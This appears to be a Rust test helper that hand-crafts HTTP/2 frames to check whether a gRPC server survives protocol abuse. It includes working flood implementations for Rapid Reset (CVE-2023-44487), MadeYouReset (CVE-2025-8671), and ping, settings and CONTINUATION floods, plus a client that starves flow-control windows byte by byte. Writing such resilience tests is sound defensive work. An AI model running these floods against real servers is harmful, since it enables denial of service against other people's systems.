//! HTTP/2 frames written by hand, for what no client library would send.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::task::JoinHandle;
use tokio::time::Instant;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
pub const PING: u8 = 6;
pub const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub const END_STREAM: u8 = 1;
pub const END_HEADERS: u8 = 4;

/// What is sent without end.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    /// Calls that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Calls that the server has to reset itself, for a window over its limit (CVE-2025-8671).
    MadeYouReset,
    /// Pings that want an answer.
    Ping,
    /// Settings that want an acknowledgement.
    Settings,
    /// One head that never ends.
    Continuation,
}

impl Flood {
    pub const ALL: [Self; 5] =
        [Self::RapidReset, Self::MadeYouReset, Self::Ping, Self::Settings, Self::Continuation];

    /// Returns the frames of one step. `head` is that of a request, as HPACK.
    fn frames(self, step: u32, head: &[u8]) -> Vec<u8> {
        let stream = 2 * step + 1;
        match self {
            Self::RapidReset => {
                let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
                [head, reset(stream)].concat()
            }
            Self::MadeYouReset => {
                let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, head);
                [head, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
            }
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            // the largest window there is: every change is applied to every stream
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]),
            Self::Continuation if step == 0 => frame(HEADERS, 0, 1, head),
            // a header of one byte, not indexed
            Self::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
        }
    }
}

/// How a flood ended.
#[derive(Clone, Copy, Debug)]
pub struct Flooded {
    /// Time until the other side closed the connection; none if it never did.
    pub closed: Option<Duration>,
}

/// Returns a frame.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    let mut out = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    out.extend_from_slice(payload);
    out
}

/// Returns the head of a gRPC call as HPACK: static names, literal values.
fn head(path: &str) -> Vec<u8> {
    let text = |out: &mut Vec<u8>, name: &[u8], value: &str| {
        out.extend_from_slice(name);
        out.push(u8::try_from(value.len()).expect("a short value"));
        out.extend_from_slice(value.as_bytes());
    };
    let mut out = vec![0x83, 0x86]; // :method POST, :scheme http
    text(&mut out, &[0x04], path);
    text(&mut out, &[0x01], "test");
    text(&mut out, &[0x0f, 0x10], "application/grpc");
    text(&mut out, &[0x00, 2, b't', b'e'], "trailers");
    out
}

/// Returns header fields as HPACK, as they are: new names, no compression.
pub fn fields<N: AsRef<[u8]>>(fields: &[(N, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        for text in [name.as_ref(), value] {
            length(&mut out, text.len());
            out.extend_from_slice(text);
        }
    }
    out
}

/// Writes a length in the form of HPACK, with a prefix of seven bits (RFC 7541, 5.1).
fn length(out: &mut Vec<u8>, length: usize) {
    const PREFIX: usize = 0x7f;
    if length < PREFIX {
        return out.push(length as u8);
    }
    out.push(PREFIX as u8);
    let mut rest = length - PREFIX;
    while rest > PREFIX {
        out.push(0x80 | (rest & PREFIX) as u8);
        rest >>= 7;
    }
    out.push(rest as u8);
}

/// Returns a whole unary call; `stream` is odd.
pub fn call(stream: u32, path: &str, message: &impl prost::Message) -> Vec<u8> {
    let message = message.encode_to_vec();
    let length = u32::try_from(message.len()).expect("a short message").to_be_bytes();
    let message = [&[0], length.as_slice(), message.as_slice()].concat();
    let head = frame(HEADERS, END_HEADERS, stream, &head(path));
    [head, frame(DATA, END_STREAM, stream, &message)].concat()
}

/// Returns what cancels a call.
pub fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}

/// Returns a connection that has said hello.
pub async fn hello(addr: SocketAddr) -> TcpStream {
    let stream = TcpStream::connect(addr).await.expect("it listens");
    stream.set_nodelay(true).expect("a socket");
    hello_on(stream).await
}

/// Says hello on a connection.
pub async fn hello_on<S: AsyncWrite + Unpin>(mut stream: S) -> S {
    let hello = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, 1, 0, &[])].concat();
    stream.write_all(&hello).await.expect("it reads");
    stream.flush().await.expect("it reads");
    stream
}

/// Sends frames, and reads what comes back, until the other side closes or `limit` is over. `path` is the
/// rpc that calls are for.
pub async fn flood(addr: SocketAddr, kind: Flood, path: &str, limit: Duration) -> Flooded {
    flood_on(hello(addr).await, kind, &head(path), limit).await
}

/// The same on a connection that has said hello; `head` is that of the requests, as HPACK.
pub async fn flood_on<S>(stream: S, kind: Flood, head: &[u8], limit: Duration) -> Flooded
where
    S: AsyncRead + AsyncWrite + Send + 'static,
{
    let (mut read, mut write) = tokio::io::split(stream);
    let begun = Instant::now();
    let closed = tokio::spawn(async move {
        let mut sink = vec![0; 64 * 1024];
        while read.read(&mut sink).await.is_ok_and(|count| count > 0) {}
    });
    let mut steps = 0;
    while begun.elapsed() < limit && !closed.is_finished() {
        let batch: Vec<u8> = (steps..steps + 100).flat_map(|step| kind.frames(step, head)).collect();
        if !matches!(tokio::time::timeout(limit, write.write_all(&batch)).await, Ok(Ok(()))) {
            break;
        }
        steps += 100;
    }
    let left = limit.saturating_sub(begun.elapsed());
    let ended = tokio::time::timeout(left, closed).await.is_ok();
    Flooded { closed: ended.then(|| begun.elapsed()) }
}

/// A connection that does only what it is told to: it opens no window for answers, and acknowledges nothing.
pub struct Bare {
    write: OwnedWriteHalf,
    /// Ends with the connection; returns the kinds of the frames that came.
    read: JoinHandle<Vec<u8>>,
    /// Bytes of messages that the other side is ready for.
    window: Arc<AtomicI64>,
    streams: u32,
    /// How often the window of an answer was opened.
    opened: u32,
}

impl Bare {
    /// Opens a connection and says hello. Answers get a window of so many bytes.
    pub async fn open(addr: SocketAddr, window: u32) -> Self {
        let mut stream = TcpStream::connect(addr).await.expect("it listens");
        stream.set_nodelay(true).expect("a socket");
        let settings = [&[0, 4], window.to_be_bytes().as_slice()].concat();
        let hello = [PREFACE, &frame(SETTINGS, 0, 0, &settings), &frame(SETTINGS, 1, 0, &[])].concat();
        stream.write_all(&hello).await.expect("it reads");
        let (mut read, write) = stream.into_split();
        let window = Arc::new(AtomicI64::new(65_535));
        let opened = window.clone();
        let read = tokio::spawn(async move {
            let (mut kinds, mut head) = (Vec::new(), [0; 9]);
            while read.read_exact(&mut head).await.is_ok() {
                let [a, b, c, kind, _, stream @ ..] = head;
                let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
                if read.read_exact(&mut payload).await.is_err() {
                    break;
                }
                if (kind, stream) == (WINDOW_UPDATE, [0; 4]) {
                    let bytes = u32::from_be_bytes(payload[..4].try_into().expect("4 bytes"));
                    opened.fetch_add(i64::from(bytes), Relaxed);
                }
                kinds.push(kind);
            }
            kinds
        });
        Self { write, read, window, streams: 0, opened: 0 }
    }

    /// Sends bytes; a connection that has ended takes none.
    async fn send(&mut self, bytes: &[u8]) {
        let _ = self.write.write_all(bytes).await;
    }

    /// Makes a call with the whole message.
    pub async fn call(&mut self, path: &str, message: &[u8]) {
        let length = u32::try_from(message.len()).expect("a short message").to_be_bytes();
        let message = [&[0], &length[..], message].concat();
        self.begin(path, &message, END_STREAM).await;
    }

    /// Makes a call of whose message so many bytes are sent, and no more.
    pub async fn call_without_end(&mut self, path: &str, bytes: usize) {
        let message = [&[0, 0, 4, 0, 0], vec![b'x'; bytes - 5].as_slice()].concat();
        self.begin(path, &message, 0).await;
    }

    async fn begin(&mut self, path: &str, message: &[u8], flags: u8) {
        let stream = 2 * self.streams + 1;
        self.streams += 1;
        let size = i64::try_from(message.len()).expect("a short message");
        while self.window.load(Relaxed) < size && !self.is_closed() {
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        self.window.fetch_sub(size, Relaxed);
        let head = frame(HEADERS, END_HEADERS, stream, &head(path));
        self.send(&[head, frame(DATA, flags, stream, message)].concat()).await;
    }

    /// Lets the other side send one byte more of an answer, each time of another one.
    pub async fn open_by_one_byte(&mut self) {
        let stream = 2 * (self.opened % self.streams.max(1)) + 1;
        self.opened += 1;
        self.send(&frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())).await;
    }

    /// Sends a ping, which has to be acknowledged.
    pub async fn ping(&mut self) {
        self.send(&frame(PING, 0, 0, &[7; 8])).await;
    }

    /// Returns true once the other side has closed the connection.
    pub fn is_closed(&self) -> bool {
        self.read.is_finished()
    }

    /// Waits until the other side closes the connection, and returns whether it said so before.
    pub async fn goaway(self) -> bool {
        let kinds = tokio::time::timeout(Duration::from_secs(20), self.read).await.expect("it is closed");
        kinds.expect("it reads").contains(&GOAWAY)
    }
}
